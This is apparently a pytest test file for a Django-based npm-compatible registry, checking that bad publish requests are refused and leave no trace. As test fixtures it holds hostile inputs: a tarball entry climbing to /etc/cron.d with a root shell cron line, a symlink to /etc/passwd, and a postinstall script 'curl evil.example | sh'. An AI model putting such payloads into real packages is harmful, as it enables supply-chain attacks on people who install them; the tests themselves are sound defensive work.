"""`PUT /<name>` with a publish body: what is accepted, what is refused, and that a
refusal changes nothing (no rows, no tarball on disk, the same packument `_rev`)."""

import base64
import io
import json
import os
import tarfile
import threading
from pathlib import Path

import pytest
from django.core.files.storage import storages
from django.db import connection
from django.test import Client

from accounts.actors import Actor
from accounts.models import SecurityEvent, Token
from registry.models import Blob, Dependency, DistTag, Maintainer, Package, Packument, Version
from registry.services import publish as publish_service
from registry.services.publish import version_publish
from registry.services.unpublish import versions_unpublish
from tests.packages import integrity_of, npm_tarball, publish_body

# --- helpers -----------------------------------------------------------------------------


def put(client, name: str, body, token: str | None = None, **headers):
    """PUT a publish body as the npm CLI does; `body` may be raw text to send as is."""
    if token is not None:
        headers["HTTP_AUTHORIZATION"] = f"Bearer {token}"
    data = body if isinstance(body, str | bytes) else json.dumps(body)
    return client.put(f"/{name}", data=data, content_type="application/json", **headers)


def publish(user, name: str, version: str = "1.0.0", **kwargs) -> Version:
    return version_publish(
        actor=Actor(user=user), name=name, body=publish_body(name, version, **kwargs)
    )


def stored_files() -> list[str]:
    root = Path(storages["tarballs"].location)
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def registry_state() -> dict:
    """Everything a publish writes; a refused publish must leave all of it as it was."""
    return {
        "packages": sorted(Package.objects.values_list("name", "revision", "access")),
        "versions": sorted(Version.objects.values_list("package__name", "version", "state")),
        "blobs": sorted(Blob.objects.values_list("sha512", flat=True)),
        "dependencies": Dependency.objects.count(),
        "tags": sorted(DistTag.objects.values_list("package__name", "tag", "version__version")),
        "packuments": sorted(Packument.objects.values_list("name", "rev")),
        "events": SecurityEvent.objects.filter(action__startswith="package:").count(),
        "files": stored_files(),
    }


def error_of(response) -> str:
    body = response.json()
    assert isinstance(body.get("error"), str) and body["error"], body
    return body["error"]


def tar_gz(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for info, data in members:
            info.size = len(data) if info.isreg() else 0
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buffer.getvalue()


def member(name: str, data: bytes = b"", *, kind=tarfile.REGTYPE, linkname: str = ""):
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.linkname = kind, 0o644, linkname
    return info, data


def package_json_bytes(name: str, version: str) -> bytes:
    return json.dumps({"name": name, "version": version}).encode()


def with_tarball(name: str, version: str, tarball: bytes) -> dict:
    """A body whose claimed manifest and digests are honest about a hand-made tarball."""
    return publish_body(name, version, tarball=tarball)


@pytest.fixture
def existing(alice):
    """alice's `pad`, with 1.0.0 published: the target of publishes of 1.1.0."""
    publish(alice, "pad", "1.0.0")
    return Package.objects.get(name="pad")


@pytest.fixture(params=["new", "existing"])
def target(request, alice):
    """A refusal must hold for the first publish of a name and for a later version."""
    if request.param == "existing":
        publish(alice, "pad", "1.0.0")
        return "pad", "1.1.0"
    return "fresh", "1.0.0"


# --- refusals: every bad body the CLI (or something pretending to be it) can send ----------


def _two_attachments(name, version):
    body = publish_body(name, version)
    (attachment,) = body["_attachments"].values()
    body["_attachments"][f"{name}-9.9.9.tgz"] = attachment
    return body


def _attachment_key_mismatch(name, version):
    body = publish_body(name, version)
    body["_attachments"] = {f"{name}-0.0.1.tgz": body["_attachments"].popitem()[1]}
    return body


def _length_mismatch(name, version):
    body = publish_body(name, version)
    next(iter(body["_attachments"].values()))["length"] += 1
    return body


def _bad_base64(name, version):
    body = publish_body(name, version)
    next(iter(body["_attachments"].values()))["data"] = "not base64!"
    return body


def _integrity_mismatch(name, version):
    body = publish_body(name, version)
    body["versions"][version]["dist"]["integrity"] = integrity_of(b"other bytes")
    return body


def _shasum_mismatch(name, version):
    body = publish_body(name, version)
    body["versions"][version]["dist"]["shasum"] = "0" * 40
    return body


def _not_gzip(name, version):
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as tar:
        info, data = member("package/package.json", package_json_bytes(name, version))
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return with_tarball(name, version, plain.getvalue())


def _truncated(name, version):
    whole = npm_tarball(
        {"package.json": package_json_bytes(name, version), "big.bin": bytes(range(256)) * 64}
    )
    return with_tarball(name, version, whole[: len(whole) // 2])


def _tar_bomb(name, version):
    files = {
        "package.json": package_json_bytes(name, version),
        "zeros.bin": b"\0" * (2 * 1024 * 1024),
    }
    return with_tarball(name, version, npm_tarball(files))


def _path_traversal(name, version):
    return with_tarball(
        name,
        version,
        tar_gz(
            [
                member("package/package.json", package_json_bytes(name, version)),
                member("package/../../etc/cron.d/evil", b"* * * * * root sh\n"),
            ]
        ),
    )


def _symlink(name, version):
    return with_tarball(
        name,
        version,
        tar_gz(
            [
                member("package/package.json", package_json_bytes(name, version)),
                member("package/passwd", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
            ]
        ),
    )


def _missing_package_json(name, version):
    return with_tarball(name, version, npm_tarball({"index.js": "module.exports = 1\n"}))


def _invalid_package_json(name, version):
    return with_tarball(name, version, npm_tarball({"package.json": '{"name": "x", '}))


def _private(name, version):
    return publish_body(name, version, package_json={"private": True})


def _version_mismatch_dist_tag(name, version):
    body = publish_body(name, version)
    body["dist-tags"] = {"latest": "9.9.9"}
    return body


def _body_name_differs_from_url(name, version):
    body = publish_body(name, version)
    body["name"] = body["_id"] = "someone-else"
    return body


def _two_versions(name, version):
    body = publish_body(name, version)
    body["versions"]["9.9.9"] = body["versions"][version]
    return body


REFUSALS = {
    "malformed-json": (lambda name, version: '{"name": "x", ', 400, "not valid JSON"),
    "body-not-an-object": (lambda name, version: "[1, 2, 3]", 400, "must be a JSON object"),
    "no-attachment": (
        lambda name, version: {**publish_body(name, version), "_attachments": {}},
        400,
        "no tarball attachment",
    ),
    "null-attachments": (
        lambda name, version: {**publish_body(name, version), "_attachments": None},
        400,
        "no tarball attachment",
    ),
    "two-attachments": (_two_attachments, 400, "exactly one tarball attachment"),
    "attachment-key-mismatch": (_attachment_key_mismatch, 400, "does not match"),
    "length-mismatch": (_length_mismatch, 400, "bytes but claims"),
    "attachment-not-base64": (_bad_base64, 400, "not valid base64"),
    "integrity-mismatch": (_integrity_mismatch, 400, "integrity"),
    "shasum-mismatch": (_shasum_mismatch, 400, "shasum"),
    "not-gzip": (_not_gzip, 400, "not gzip-compressed"),
    "truncated": (_truncated, 400, "truncated or corrupt"),
    "tar-bomb": (_tar_bomb, 400, "unpacks to more than"),
    "path-traversal": (_path_traversal, 400, "climbs out"),
    "symlink": (_symlink, 400, "symbolic link"),
    "missing-package-json": (_missing_package_json, 400, "no package/package.json"),
    "invalid-package-json": (_invalid_package_json, 400, "package/package.json is not valid"),
    "private": (_private, 400, '"private": true'),
    "invalid-version": (
        lambda name, version: publish_body(name, "1.0"),
        400,
        'Invalid version "1.0"',
    ),
    "tag-is-a-range": (
        lambda name, version: publish_body(name, version, tag="1.x"),
        400,
        "version range",
    ),
    "tag-not-url-safe": (
        lambda name, version: publish_body(name, version, tag="^1.0.0"),
        400,
        "URL-safe",
    ),
    "tag-points-elsewhere": (
        _version_mismatch_dist_tag,
        400,
        "must point at the version being published",
    ),
    "two-versions": (_two_versions, 400, "one version at a time"),
    "body-name-differs-from-url": (_body_name_differs_from_url, 400, "but the URL names"),
    "access-unknown": (
        lambda name, version: publish_body(name, version, access="secret"),
        400,
        '"access" must be',
    ),
}


@pytest.mark.parametrize("case", REFUSALS.keys())
def test_publish_refuses_bad_body_and_leaves_nothing_behind(
    case, target, client, alice_token, settings
):
    settings.GATEHOUSE_MAX_UNPACKED_BYTES = 1024 * 1024
    name, version = target
    build, status, text = REFUSALS[case]
    before = registry_state()

    response = put(client, name, build(name, version), alice_token)

    assert response.status_code == status, response.content
    assert text in error_of(response)
    assert registry_state() == before


# Each field that changes what an install does, told differently by the request's manifest
# than by the tarball's own package.json (manifest confusion).
CONFUSIONS = {
    "name": ({}, {"name": "innocent"}),
    "version": ({}, {"version": "0.0.1"}),
    "dependencies": ({"dependencies": {"evil": "^1.0.0"}}, {"dependencies": {}}),
    "devDependencies": (
        {"devDependencies": {"evil": "^1.0.0"}},
        {"devDependencies": {"jest": "^29"}},
    ),
    "optionalDependencies": (
        {"optionalDependencies": {"evil": "^1.0.0"}},
        {"optionalDependencies": {}, "dependencies": {"evil": "^1.0.0"}},
    ),
    "peerDependencies": (
        {"peerDependencies": {"react": "*"}},
        {"peerDependencies": {"react": "^18"}},
    ),
    "scripts": ({"scripts": {"postinstall": "curl evil.example | sh"}}, {"scripts": {}}),
    "bin": ({"bin": {"ls": "evil.js"}}, {"bin": {"tool": "cli.js"}}),
    "bundleDependencies": (
        {"dependencies": {"a": "1.0.0"}, "bundleDependencies": ["a"]},
        {"bundleDependencies": []},
    ),
}


@pytest.mark.parametrize("field", CONFUSIONS.keys())
def test_publish_refuses_manifest_that_differs_from_tarball(field, target, client, alice_token):
    name, version = target
    package_json, claimed = CONFUSIONS[field]
    before = registry_state()

    response = put(
        client,
        name,
        publish_body(name, version, package_json=package_json, manifest=claimed),
        alice_token,
    )

    assert response.status_code == 400, response.content
    error = error_of(response)
    assert f'The "{field}" in the publish request' in error
    assert "repack with `npm publish`" in error
    assert registry_state() == before


def test_publish_refuses_tarball_whose_name_differs(target, client, alice_token):
    """Client manifest and tarball agree with each other, but not with the package URL."""
    name, version = target
    body = publish_body(name, version)
    body["versions"][version] = publish_body("other-pkg", version)["versions"][version]
    body["_attachments"] = {
        f"{name}-{version}.tgz": publish_body("other-pkg", version)["_attachments"].popitem()[1]
    }
    before = registry_state()

    response = put(client, name, body, alice_token)

    assert response.status_code == 400, response.content
    assert "other-pkg" in error_of(response)
    assert registry_state() == before


def test_publish_refuses_tarball_whose_version_differs_from_the_versions_key(
    target, client, alice_token
):
    name, version = target
    honest_for_other = publish_body(name, "7.7.7")
    body = publish_body(name, version)
    body["versions"] = {version: honest_for_other["versions"]["7.7.7"]}
    body["_attachments"] = {f"{name}-{version}.tgz": honest_for_other["_attachments"].popitem()[1]}
    before = registry_state()

    response = put(client, name, body, alice_token)

    assert response.status_code == 400, response.content
    assert "7.7.7" in error_of(response)
    assert registry_state() == before


@pytest.mark.parametrize("name", ["Foo", "node_modules", ".hidden", "fs", "@alice/.x", "a b"])
def test_publish_refuses_invalid_new_name(name, client, alice_token):
    before = registry_state()

    response = put(client, name, publish_body(name), alice_token)

    assert response.status_code == 400, response.content
    assert "Rename the package" in error_of(response) or "Invalid package name" in error_of(
        response
    )
    assert registry_state() == before


def test_publish_refuses_republish_of_a_published_version(existing, client, alice_token):
    before = registry_state()

    response = put(
        client,
        "pad",
        publish_body("pad", "1.0.0", package_json={"description": "again"}),
        alice_token,
    )

    assert response.status_code == 403
    assert "You cannot publish over the previously published versions: 1.0.0" in error_of(response)
    assert "bump the version" in error_of(response)
    assert registry_state() == before


def test_publish_refuses_republish_of_an_unpublished_version(existing, alice, client, alice_token):
    publish(alice, "pad", "1.1.0")
    versions_unpublish(actor=Actor(user=alice), name="pad", rev=None, keep={"1.1.0"})
    before = registry_state()

    response = put(client, "pad", publish_body("pad", "1.0.0"), alice_token)

    assert response.status_code == 403
    assert "You cannot publish over the previously published versions: 1.0.0" in error_of(response)
    assert registry_state() == before


def test_publish_refuses_restricted_access_for_unscoped_name(client, alice_token):
    before = registry_state()

    response = put(client, "fresh", publish_body("fresh", access="restricted"), alice_token)

    assert response.status_code == 400
    assert "Only scoped packages can be restricted" in error_of(response)
    assert registry_state() == before


def test_publish_refuses_oversized_request_body(target, client, alice_token, settings):
    name, version = target
    body = json.dumps(publish_body(name, version, package_json={"description": "x" * 5000}))
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = len(body) - 1
    before = registry_state()

    response = put(client, name, body, alice_token)

    assert response.status_code == 413, response.content
    assert "too large" in error_of(response)
    assert registry_state() == before


def test_publish_refuses_tarball_over_the_size_limit(target, client, alice_token, settings):
    name, version = target
    body = publish_body(name, version, extra_files={"blob.bin": os.urandom(4096)})
    settings.GATEHOUSE_MAX_TARBALL_BYTES = 1024
    before = registry_state()

    response = put(client, name, body, alice_token)

    assert response.status_code == 413, response.content
    assert "Make the package smaller" in error_of(response)
    assert registry_state() == before


# --- credentials -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("authorization", "text"),
    [
        (None, "You must be logged in to publish"),
        ("Bearer gh_not_a_real_token", "This access token is not valid"),
        (
            "Basic " + base64.b64encode(b"alice:wrong password").decode(),
            "Incorrect username or password",
        ),
        ("Digest abc", "Unsupported authorization scheme"),
    ],
    ids=["anonymous", "bogus-token", "wrong-password", "unknown-scheme"],
)
def test_publish_with_missing_or_wrong_credentials_is_401_without_challenge(
    authorization, text, target, client
):
    name, version = target
    headers = {"HTTP_AUTHORIZATION": authorization} if authorization else {}
    before = registry_state()

    response = put(client, name, publish_body(name, version), **headers)

    assert response.status_code == 401, response.content
    assert text in error_of(response)
    # A Basic/Bearer challenge would make npm print canned text instead of ours.
    assert "WWW-Authenticate" not in response
    assert registry_state() == before


def test_outsider_cannot_publish_to_someone_elses_package(existing, client, carol_token):
    before = registry_state()

    response = put(client, "pad", publish_body("pad", "1.1.0"), carol_token)

    assert response.status_code == 403
    assert "npm owner ls pad" in error_of(response)
    assert registry_state() == before


def test_outsider_cannot_publish_under_someone_elses_scope(alice, client, carol_token):
    before = registry_state()

    response = put(client, "@alice/tool", publish_body("@alice/tool"), carol_token)

    assert response.status_code == 403
    assert "@alice scope" in error_of(response)
    assert registry_state() == before


def test_outsider_publishing_to_a_restricted_package_is_told_it_does_not_exist(
    alice, client, carol_token
):
    publish(alice, "@alice/secret")
    before = registry_state()

    response = put(client, "@alice/secret", publish_body("@alice/secret", "1.1.0"), carol_token)

    assert response.status_code == 404
    assert "not in this registry" in error_of(response)
    assert registry_state() == before


def test_read_only_token_cannot_publish(existing, alice, client, alice_token):
    Token.objects.filter(user=alice).update(readonly=True)
    before = registry_state()

    response = put(client, "pad", publish_body("pad", "1.1.0"), alice_token)

    assert response.status_code == 403
    assert "read-only" in error_of(response)
    assert registry_state() == before


# --- what gets published -----------------------------------------------------------------


def manifest_of(name: str, version: str) -> dict:
    return Version.objects.get(package__name=name, version=version).manifest


def test_publish_stores_the_tarballs_manifest_not_the_clients(alice, client, alice_token):
    body = publish_body(
        "pad",
        package_json={"description": "from the tarball", "engines": {"node": ">=18"}},
        manifest={"description": "from the client", "engines": {"node": ">=4"}, "os": ["linux"]},
    )

    response = put(client, "pad", body, alice_token)

    assert response.status_code == 201, response.content
    assert response.json() == {"success": True, "id": "pad@1.0.0"}
    manifest = manifest_of("pad", "1.0.0")
    assert manifest["description"] == "from the tarball"
    assert manifest["engines"] == {"node": ">=18"}
    assert "os" not in manifest
    assert Package.objects.get(name="pad").description == "from the tarball"


def test_publish_adds_what_the_client_never_sends(alice, client, alice_token):
    body = publish_body("pad", extra_files={"README.md": "# pad\n"})

    put(client, "pad", body, alice_token)

    manifest = manifest_of("pad", "1.0.0")
    assert manifest["_id"] == "pad@1.0.0"
    assert manifest["_npmUser"] == {"name": "alice", "email": "alice@example.com"}
    assert manifest["maintainers"] == [{"name": "alice", "email": "alice@example.com"}]
    assert manifest["_nodeVersion"] == "20.20.2"
    (attachment,) = body["_attachments"].values()
    tarball = base64.b64decode(attachment["data"])
    files = (json.dumps({"name": "pad", "version": "1.0.0"}), "module.exports = 1\n", "# pad\n")
    assert manifest["dist"] | {"tarball": None} == {
        "integrity": integrity_of(tarball),
        "shasum": body["versions"]["1.0.0"]["dist"]["shasum"],
        "tarball": None,  # not the client's: the packument builds it from GATEHOUSE_URL
        "fileCount": 3,
        "unpackedSize": sum(len(f) for f in files),
    }
    version = Version.objects.get(package__name="pad")
    assert version.readme == "# pad\n"
    assert version.readme_filename == "README.md"
    assert SecurityEvent.objects.filter(action="package:publish", package_name="pad").count() == 1


def test_publish_of_scoped_package_accepts_npms_scoped_attachment_key(
    alice, client, alice_token, settings
):
    settings.GATEHOUSE_URL = "https://npm.example.test/"
    body = publish_body("@alice/tool", access="public")
    # npm names the attachment with the scope: "@alice/tool-1.0.0.tgz".
    assert list(body["_attachments"]) == ["@alice/tool-1.0.0.tgz"]

    response = put(client, "@alice%2ftool", body, alice_token)

    assert response.status_code == 201, response.content
    package = Package.objects.get(name="@alice/tool")
    assert (package.scope, package.access) == ("alice", "public")
    packument = json.loads(bytes(Packument.objects.get(name="@alice/tool").full))
    tarball = packument["versions"]["1.0.0"]["dist"]["tarball"]
    assert tarball == "https://npm.example.test/@alice/tool/-/tool-1.0.0.tgz"


def test_scoped_package_is_restricted_unless_published_public(alice, client, alice_token):
    put(client, "@alice/secret", publish_body("@alice/secret"), alice_token)

    assert Package.objects.get(name="@alice/secret").access == "restricted"


@pytest.mark.parametrize(
    ("package_json", "files", "expected_bin"),
    [
        ({"bin": "./cli.js"}, {"cli.js": "#!/usr/bin/env node\n"}, {"pad": "cli.js"}),
        ({"bin": {"pad-cli": "bin//cli.js"}}, {"bin/cli.js": ""}, {"pad-cli": "bin/cli.js"}),
        (
            {"directories": {"bin": "./bin"}},
            {"bin/one.js": "", "bin/two.js": ""},
            {"one.js": "bin/one.js", "two.js": "bin/two.js"},
        ),
    ],
    ids=["string", "object", "directories-bin"],
)
def test_publish_accepts_bin_as_npm_normalises_it(
    package_json, files, expected_bin, alice, client, alice_token
):
    # What npm 11 puts in the request: the normalised bin object.
    body = publish_body(
        "pad", package_json=package_json, extra_files=files, manifest={"bin": expected_bin}
    )

    response = put(client, "pad", body, alice_token)

    assert response.status_code == 201, response.content
    assert manifest_of("pad", "1.0.0")["bin"] == expected_bin


def test_publish_accepts_bin_as_written_in_package_json(alice, client, alice_token):
    """An older client sends package.json's bin untouched; that is not confusion either."""
    body = publish_body("pad", package_json={"bin": "./cli.js"}, extra_files={"cli.js": ""})

    response = put(client, "pad", body, alice_token)

    assert response.status_code == 201, response.content
    assert manifest_of("pad", "1.0.0")["bin"] == {"pad": "cli.js"}


@pytest.mark.parametrize("client_adds_gyp_script", [True, False])
def test_publish_with_binding_gyp_has_install_script(
    client_adds_gyp_script, alice, client, alice_token
):
    claimed = (
        {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True}
        if client_adds_gyp_script
        else {}
    )
    body = publish_body("native", extra_files={"binding.gyp": "{}"}, manifest=claimed)

    response = put(client, "native", body, alice_token)

    assert response.status_code == 201, response.content
    manifest = manifest_of("native", "1.0.0")
    assert manifest["hasInstallScript"] is True
    assert manifest["gypfile"] is True
    assert manifest["scripts"] == {"install": "node-gyp rebuild"}


def test_publish_with_install_script_has_install_script(alice, client, alice_token):
    body = publish_body(
        "hooks", package_json={"scripts": {"postinstall": "node setup.js", "test": "jest"}}
    )

    put(client, "hooks", body, alice_token)

    assert manifest_of("hooks", "1.0.0")["hasInstallScript"] is True


def test_publish_without_install_script_has_no_install_script_flag(alice, client, alice_token):
    put(
        client,
        "plain",
        publish_body("plain", package_json={"scripts": {"test": "jest"}}),
        alice_token,
    )

    assert "hasInstallScript" not in manifest_of("plain", "1.0.0")


@pytest.mark.parametrize("client_folds_optional_into_dependencies", [True, False])
def test_publish_accepts_optional_dependencies(
    client_folds_optional_into_dependencies, alice, client, alice_token
):
    package_json = {"dependencies": {"a": "^1.0.0"}, "optionalDependencies": {"fsevents": "^2.0.0"}}
    claimed = (
        {"dependencies": {"a": "^1.0.0", "fsevents": "^2.0.0"}}
        if client_folds_optional_into_dependencies
        else {}
    )

    response = put(
        client, "pad", publish_body("pad", package_json=package_json, manifest=claimed), alice_token
    )

    assert response.status_code == 201, response.content
    assert manifest_of("pad", "1.0.0")["optionalDependencies"] == {"fsevents": "^2.0.0"}
    assert sorted(Dependency.objects.values_list("name", flat=True)) == ["a", "fsevents"]


def test_publish_accepts_bundled_dependencies_spelled_either_way(alice, client, alice_token):
    package_json = {"dependencies": {"a": "1.0.0", "b": "1.0.0"}, "bundledDependencies": True}

    response = put(
        client,
        "pad",
        publish_body("pad", package_json=package_json, manifest={"bundleDependencies": ["a", "b"]}),
        alice_token,
    )

    assert response.status_code == 201, response.content
    assert manifest_of("pad", "1.0.0")["bundleDependencies"] == ["a", "b"]


# What npm 11.19.1 itself sends for package.json quirks it normalises while packing (each
# seen on the wire with the real CLI): none of it is manifest confusion.
NPM_NORMALISES = {
    "server-js-start": (
        {},
        {"server.js": "require('http')"},
        {"scripts": {"start": "node server.js"}},
        {"scripts": {"start": "node server.js"}},
    ),
    "node-modules-bin-prefix": (
        {"scripts": {"build": "node_modules/.bin/tsc -p .", "lint": "./node_modules/.bin/eslint"}},
        {},
        {"scripts": {"build": "tsc -p .", "lint": "eslint"}},
        {"scripts": {"build": "tsc -p .", "lint": "eslint"}},
    ),
    "any-gyp-file": (
        {},
        {"addon.gyp": "{}"},
        {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True},
        {"scripts": {"install": "node-gyp rebuild"}, "gypfile": True, "hasInstallScript": True},
    ),
    "gypfile-false": (
        {"gypfile": False},
        {"binding.gyp": "{}"},
        {},
        {"gypfile": False},
    ),
    "bin-directory-skips-dot-names-keeps-folders": (
        {"directories": {"bin": "./bin/"}},
        {"bin/a.js": "", "bin/sub/tool.js": "", "bin/.keep": "", "bin/.hidden/x.js": ""},
        {"bin": {"a.js": "bin/a.js", "sub": "bin/sub", "tool.js": "bin/sub/tool.js"}},
        {"bin": {"a.js": "bin/a.js", "sub": "bin/sub", "tool.js": "bin/sub/tool.js"}},
    ),
    "version-with-v-prefix": (
        {"version": "v1.0.0"},
        {},
        {"version": "1.0.0"},
        {"version": "1.0.0"},
    ),
    "version-with-build-metadata": (
        {"version": "1.0.0+build.5"},
        {},
        {"version": "1.0.0"},
        {"version": "1.0.0"},
    ),
    "bundle-dependencies-object": (
        {"dependencies": {"a": "1.0.0"}, "bundleDependencies": {"a": "1.0.0"}},
        {},
        {"bundleDependencies": ["a"]},
        {"bundleDependencies": ["a"]},
    ),
}


@pytest.mark.parametrize("case", NPM_NORMALISES.keys())
def test_publish_accepts_what_npm_normalises_while_packing(case, alice, client, alice_token):
    package_json, files, claimed, stored = NPM_NORMALISES[case]
    body = publish_body("pad", package_json=package_json, extra_files=files, manifest=claimed)

    response = put(client, "pad", body, alice_token)

    assert response.status_code == 201, response.content
    manifest = manifest_of("pad", "1.0.0")
    assert {key: manifest.get(key) for key in stored} == stored
    if "hasInstallScript" not in stored:
        assert "hasInstallScript" not in manifest


def test_publish_with_tag_sets_the_tag_and_keeps_latest(existing, client, alice_token):
    put(client, "pad", publish_body("pad", "2.0.0-beta.1", tag="next"), alice_token)

    tags = dict(DistTag.objects.filter(package=existing).values_list("tag", "version__version"))
    assert tags == {"latest": "1.0.0", "next": "2.0.0-beta.1"}


def test_first_publish_with_a_tag_also_gets_latest(alice, client, alice_token):
    put(client, "pad", publish_body("pad", "1.0.0-rc.1", tag="next"), alice_token)

    tags = dict(DistTag.objects.filter(package__name="pad").values_list("tag", "version__version"))
    assert tags == {"latest": "1.0.0-rc.1", "next": "1.0.0-rc.1"}


def test_maintainer_can_publish_a_new_version(existing, bob, client, bob_token):
    Maintainer.objects.create(package=existing, user=bob)

    response = put(client, "pad", publish_body("pad", "1.1.0"), bob_token)

    assert response.status_code == 201, response.content
    assert manifest_of("pad", "1.1.0")["_npmUser"]["name"] == "bob"
    assert [m["name"] for m in manifest_of("pad", "1.1.0")["maintainers"]] == ["alice", "bob"]


def test_publish_failing_after_the_tarball_was_written_leaves_nothing_behind(
    target, client, alice_token, monkeypatch
):
    name, version = target

    def fail(*args, **kwargs):
        raise RuntimeError("the event store is down")

    monkeypatch.setattr(publish_service, "event_record", fail)
    before = registry_state()

    with pytest.raises(RuntimeError):
        put(client, name, publish_body(name, version), alice_token)

    assert registry_state() == before


# --- a rival publishes between the checks and the commit -----------------------------------


def rival_publishes_first(monkeypatch, rival):
    """Run `rival()` after a publish has passed its checks and just before it commits."""
    real_commit = publish_service._publish_commit
    pending = [rival]

    def commit(*args):
        if pending:
            pending.pop()()
        return real_commit(*args)

    monkeypatch.setattr(publish_service, "_publish_commit", commit)


def test_publish_refuses_when_a_rival_published_the_version_meanwhile(
    existing, alice, client, alice_token, monkeypatch
):
    rival_publishes_first(
        monkeypatch,
        lambda: publish(alice, "pad", "1.1.0", package_json={"description": "the rival"}),
    )

    response = put(client, "pad", publish_body("pad", "1.1.0"), alice_token)

    assert response.status_code == 403
    assert "You cannot publish over the previously published versions: 1.1.0" in error_of(response)
    assert manifest_of("pad", "1.1.0")["description"] == "the rival"
    assert Blob.objects.count() == len(stored_files()) == 2


def test_publish_of_a_new_name_is_reauthorized_when_someone_else_created_it_meanwhile(
    alice, carol, client, carol_token, monkeypatch
):
    """carol passed the "name is free" check, then alice created the package: carol is
    now publishing into alice's package and must be refused as any outsider is."""
    rival_publishes_first(monkeypatch, lambda: publish(alice, "contested", "1.0.0"))

    response = put(client, "contested", publish_body("contested", "2.0.0"), carol_token)

    assert response.status_code == 403, response.content
    assert "npm owner ls contested" in error_of(response)
    assert list(Version.objects.values_list("version", flat=True)) == ["1.0.0"]
    assert list(
        Package.objects.get(name="contested").maintainers.values_list("user__username", flat=True)
    ) == ["alice"]


# --- two publishes at once, in two threads -------------------------------------------------


@pytest.fixture
def make_commits_meet(monkeypatch):
    """Once armed, both publishes pass every check before either commits, so both saw the version free.

    On PostgreSQL the two transactions then really overlap. On SQLite (a file, as in the
    embedded mode) BEGIN IMMEDIATE makes the second writer wait, so there they take turns.
    """
    real_commit = publish_service._publish_commit
    barrier = threading.Barrier(2)

    def commit(*args):
        barrier.wait(timeout=20)
        return real_commit(*args)

    return lambda: monkeypatch.setattr(publish_service, "_publish_commit", commit)


def publish_in_parallel(requests: list[tuple[str, dict, str]]) -> list[int]:
    statuses: list[int] = [0] * len(requests)

    def run(index: int, name: str, body: dict, token: str) -> None:
        try:
            statuses[index] = put(Client(), name, body, token).status_code
        finally:
            connection.close()

    threads = [
        threading.Thread(target=run, args=(i, *request)) for i, request in enumerate(requests)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    return statuses


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("package_exists", [False, True], ids=["new-package", "new-version"])
def test_two_publishes_of_the_same_version_exactly_one_wins(
    package_exists, alice, alice_token, make_commits_meet
):
    if package_exists:
        publish(alice, "race", "0.1.0")
    make_commits_meet()
    # Different bytes, same version: whichever wins, the other must not overwrite it.
    attempts = [
        publish_body("race", "1.0.0", package_json={"description": f"attempt {n}"})
        for n in range(2)
    ]

    statuses = publish_in_parallel([("race", body, alice_token) for body in attempts])

    assert sorted(statuses) == [201, 403], statuses
    winner = attempts[statuses.index(201)]["versions"]["1.0.0"]["dist"]["integrity"]
    version = Version.objects.get(package__name="race", version="1.0.0")
    assert version.manifest["dist"]["integrity"] == winner
    packument = json.loads(bytes(Packument.objects.get(name="race").full))
    assert packument["versions"]["1.0.0"]["dist"]["integrity"] == winner
    assert packument["dist-tags"]["latest"] == "1.0.0"
    # The loser's tarball is not left on disk, nor its row.
    assert sorted(Blob.objects.values_list("sha512", flat=True)) == sorted(
        Version.objects.values_list("blob_id", flat=True)
    )
    assert len(stored_files()) == Blob.objects.count()


@pytest.mark.django_db(transaction=True)
def test_two_people_racing_to_create_a_name_leave_it_to_one(
    alice, alice_token, carol, carol_token, make_commits_meet
):
    make_commits_meet()
    statuses = publish_in_parallel(
        [
            ("contested", publish_body("contested", "1.0.0"), alice_token),
            ("contested", publish_body("contested", "2.0.0"), carol_token),
        ]
    )

    assert sorted(statuses) == [201, 403], statuses
    winner = "alice" if statuses[0] == 201 else "carol"
    package = Package.objects.get(name="contested")
    assert list(package.maintainers.values_list("user__username", flat=True)) == [winner]
    assert package.versions.count() == 1
    assert len(stored_files()) == 1
